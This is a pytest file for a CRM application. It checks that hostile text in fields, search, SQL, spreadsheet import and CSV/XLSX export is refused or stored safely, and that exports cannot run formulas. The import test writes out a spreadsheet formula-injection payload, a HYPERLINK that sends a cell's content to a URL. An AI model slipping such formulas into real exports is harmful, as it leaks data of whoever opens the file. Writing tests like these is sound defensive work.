"""Hostile text in every field: refused in words or kept as it is, found again, never a crash."""

import csv
import io
import json

import openpyxl
import pytest

from crm.book import Book
from crm.changes import changes
from crm.conditions import Filter
from crm.importing.matching import match_columns
from crm.importing.plan import Choices, plan_import
from crm.importing.sheet import Sheet
from crm.importing.taking import operation_of
from crm.importing.targets import import_columns
from crm.list_file import csv_bytes, list_frame, xlsx_bytes
from crm.lists import Query, find
from crm.operation import Operation, perform, read_operation
from crm.search import search
from crm.sql import run_sql
from kit.cells import is_formula
from kit.errors import UserError
from sample_data.export import safe_text
from sample_data.firm import Firm
from tests.crm.hostile import (
    SEEN,
    TEXTS,
    Write,
    busy_book,
    corpus_cells,
    every_field,
    typed_fields,
)

UNSEEN = ("turned round", "unseen", "bell", "half a sign", "nothing")


@pytest.fixture(scope="module")
def book(tiny_firm: Firm) -> Book:
    return busy_book(tiny_firm)


def tried(book: Book, write: Write, text: str) -> tuple[str, Operation, Book]:
    """The refusal, empty when it was accepted; anything but a UserError is a failure."""
    mine, operation = book.fork(), read_operation(write(text))
    try:
        said = operation.says(mine)
        perform(mine, operation, mine.seq + 1)
    except UserError as error:
        assert error.says.zh and error.says.en
        said = error.says
        code = error.code
    else:
        code = ""
    said.model_dump_json()
    return code, operation, mine


def test_every_field_takes_hostile_text_as_it_is_or_says_why_not(book: Book) -> None:
    fields = list(every_field(book))
    assert len(fields) > 40
    for field, write in fields:
        taken = 0
        for name, text in TEXTS.items():
            code, operation, after = tried(book, write, text)
            taken += not code
            if code or name == "half a sign":
                assert code or "add_attachment" in field, (field, name)
                continue
            line = json.dumps(operation.line(), ensure_ascii=False).encode()
            assert read_operation(json.loads(line)) == operation, (field, name)
            for told in changes(after, after.patches[after.seq]):
                told.what.model_dump_json()
        assert taken >= 5, field


def test_no_field_of_a_form_keeps_what_cannot_be_seen(book: Book) -> None:
    for field, write in typed_fields(book):
        assert {tried(book, write, TEXTS[name])[0] for name in UNSEEN} == {"control_character"}
        assert [name for name in SEEN if tried(book, write, TEXTS[name])[0]] == [], field
        assert tried(book, write, TEXTS["long"])[0] == "too_long", field


def named_so(firm: Firm) -> Book:
    """Six customers whose names and notes are hostile."""
    book = Book(firm)
    for number, name in enumerate(SEEN):
        values = {"name": TEXTS[name], "note": TEXTS[name], "kind": "person"}
        line = {"op": "create_account", "values": values}
        perform(book, read_operation(line), number + 1)
    return book


def test_what_was_kept_is_found_by_search_by_condition_and_by_sql(tiny_firm: Firm) -> None:
    book = named_so(tiny_firm)
    for name in SEEN:
        text = TEXTS[name]
        assert text in find(book, "accounts", Query(search=text)).rows["name"], name
        asked = Filter("name", "=", text)
        assert find(book, "accounts", Query(filters=(asked,))).rows["note"].to_list() == [text]
        for question in ("contains", "starts"):
            found = find(book, "accounts", Query(filters=(Filter("name", question, text),)))
            assert found.total >= 1, (name, question)
    quoted = ", ".join("'" + TEXTS[name].replace("'", "''") + "'" for name in SEEN)
    rows = run_sql(book, f"SELECT name FROM accounts WHERE name IN ({quoted}) ORDER BY id").rows
    assert [row[0] for row in rows] == [TEXTS[name] for name in SEEN]


def test_whatever_is_searched_for_gives_an_answer(tiny_firm: Firm) -> None:
    marks = ["", " ", "%", "_", "\\", ".*", "(", "[", "C0", "°", "C" + "9" * 400]
    for text in [*TEXTS.values(), *marks, *corpus_cells()[::3]]:
        search(Book(tiny_firm), text)
        for table in ("accounts", "opportunities", "cases"):
            find(Book(tiny_firm), table, Query(search=text))


def test_rows_of_the_corpus_are_imported_or_held_back(tiny_firm: Firm) -> None:
    book, cells = Book(tiny_firm), corpus_cells()
    headers = ("客户名称", "类型", "备注", "建档日期", "信用额度", "邮箱")
    rows = tuple((cell, "个人", cell, cell, cell, cell) for cell in cells)
    file = Sheet(headers, rows, tuple(range(2, len(rows) + 2)), "x.csv", "d")
    columns = match_columns(headers, import_columns(book, "accounts"))
    assert len(columns) == 5
    assert {row.fate for row in plan_import(book, file, Choices("accounts", columns)).rows} == {
        "held"
    }
    named = {name: columns[name] for name in ("name", "kind", "note")}
    perform(book, operation_of(plan_import(book, file, Choices("accounts", named))), 1)
    kept = book.table("accounts")["note"].drop_nulls().to_list()
    assert set(kept) <= {cell.strip() for cell in cells}
    assert len(kept) > 400
    assert kept.count('=HYPERLINK("http://127.0.0.1/?x="&A1,"点我")') == 1


def test_sql_with_hostile_text_in_it_answers_or_refuses(tiny_firm: Firm) -> None:
    for name in ("half a sign", "nothing", "turned round"):
        with pytest.raises(UserError) as told:
            run_sql(Book(tiny_firm), "SELECT " + TEXTS[name])
        assert told.value.code.startswith("sql_"), name


def test_a_list_taken_away_runs_nothing(tiny_firm: Firm) -> None:
    book = named_so(tiny_firm)
    frame = list_frame(book, "accounts", Query(), ["id", "name", "note"], "zh")
    for raw in (csv_bytes(frame), csv_bytes(safe_text(frame))):
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert [cell for row in rows for cell in row if is_formula(cell.removeprefix("'"))]
        assert [cell for row in rows for cell in row if is_formula(cell) and cell[0] != "'"] == []
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, ["id", "text", "text"], "[:]*?/")))
    cells = [cell for row in sheet.worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert {TEXTS[name] for name in SEEN} <= {cell.value for cell in cells}
